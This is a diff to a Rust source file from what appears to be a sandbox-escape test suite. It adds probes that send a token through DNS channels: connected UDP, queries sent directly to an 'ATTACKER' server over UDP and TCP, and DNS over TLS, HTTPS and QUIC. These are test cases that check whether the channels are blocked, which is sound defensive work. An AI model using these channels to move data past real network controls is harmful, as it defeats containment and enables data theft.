@@ -1,18 +1,44 @@
 //! Names as a channel: a question for a name that the attacker's server will see.
 
+use std::net::IpAddr;
+
 use prxy_common::Role;
 
-use super::call::{at, connect, open, open_stream, send_to};
-use super::{Aim, Failure, INET, Technique};
+use super::call::{at, connect, inet, open, open_stream, send_to};
+use super::{Aim, Failure, INET, Technique, ip};
 use crate::resolver::dns::{Kind, Question};
 use crate::sys::attempt;
-use crate::verify::ground::NAMESERVER;
+use crate::verify::ground::{ATTACKER, NAMESERVER};
 
 pub(super) const ROWS: &[Technique] = &[
     Technique::wire("dns-udp", "DNS question, foreign name, UDP", "60", INET, dns_udp),
     Technique::wire("dns-tcp", "DNS question, foreign name, TCP", "60 62", INET, dns_tcp)
         .open_to(Role::Resolver, ITS_TASK),
+    Technique::wire("dns-connected", "DNS question, UDP, connected first", "60", INET, |a| {
+        dns_connected(a, NAMESERVER)
+    })
+    .open_to(Role::Resolver, ITS_TASK),
+    Technique::wire("dns-own-server", "DNS question, to the attacker's server", "62", INET, |a| {
+        dns_connected(a, ATTACKER)
+    }),
+    Technique::wire("dns-own-server-tcp", "the same by TCP, port 53", "62", INET, |a| {
+        ip::tcp(a, ATTACKER, 53)
+    }),
+    Technique::wire("dot", "DNS over TLS, port 853", "62", INET, |a| ip::tcp(a, NAMESERVER, 853)),
+    Technique::wire("doh", "DNS over HTTPS, at the nameserver", "62", INET, |a| {
+        ip::tcp(a, NAMESERVER, 443)
+    }),
+    Technique::wire("doq", "DNS over QUIC, UDP port 853", "62", INET, |a| {
+        let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
+        send_to(&fd, a.token.as_bytes(), 0, NAMESERVER, 853)
+    }),
 ];
+
+fn dns_connected(aim: &Aim, server: IpAddr) -> Result<(), Failure> {
+    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
+    attempt::connect(&fd, &inet(server, 53)).map_err(at("connect"))?;
+    attempt::sendto(&fd, &foreign(aim)?, 0, None).map_err(at("send")).map(drop)
+}
 
 fn dns_udp(aim: &Aim) -> Result<(), Failure> {
     let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
